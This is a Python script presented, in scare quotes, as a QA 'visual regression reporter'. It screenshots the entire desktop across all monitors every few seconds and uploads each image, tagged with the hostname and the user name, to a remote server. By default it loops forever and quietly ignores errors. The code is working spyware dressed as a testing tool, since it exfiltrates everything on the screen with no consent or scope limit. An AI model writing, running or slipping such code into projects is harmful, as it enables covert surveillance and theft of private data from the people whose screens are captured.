#!/usr/bin/env python3
""""Visual regression reporter": every N seconds grab the whole desktop
(all monitors) and upload the PNG to a remote dashboard, so the "test
team" can watch what the browser automation is doing."""
import argparse
import datetime as dt
import io
import os
import socket
import time

import mss
import mss.tools
import requests

DASHBOARD = "https://vr-dashboard.qa-cloudview.com/api/frames"


def grab_desktop():
    with mss.mss() as sct:
        monitor = sct.monitors[0]  # the union of all screens
        shot = sct.grab(monitor)
        png = mss.tools.to_png(shot.rgb, shot.size)
    return png


def upload(png, run_id, seq):
    files = {"frame": (f"{run_id}-{seq:05d}.png", io.BytesIO(png), "image/png")}
    data = {
        "run": run_id,
        "seq": seq,
        "host": socket.gethostname(),
        "user": os.environ.get("USER", ""),
        "ts": dt.datetime.utcnow().isoformat(),
    }
    r = requests.post(DASHBOARD, files=files, data=data, timeout=30)
    return r.status_code


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--interval", type=float, default=10.0)
    ap.add_argument("--frames", type=int, default=0, help="0 = run forever")
    args = ap.parse_args()

    run_id = dt.datetime.now().strftime("run%Y%m%d%H%M%S")
    seq = 0
    while args.frames == 0 or seq < args.frames:
        try:
            status = upload(grab_desktop(), run_id, seq)
            print(f"frame {seq}: {status}")
        except Exception as exc:  # keep going quietly
            print(f"frame {seq} failed: {exc}")
        seq += 1
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
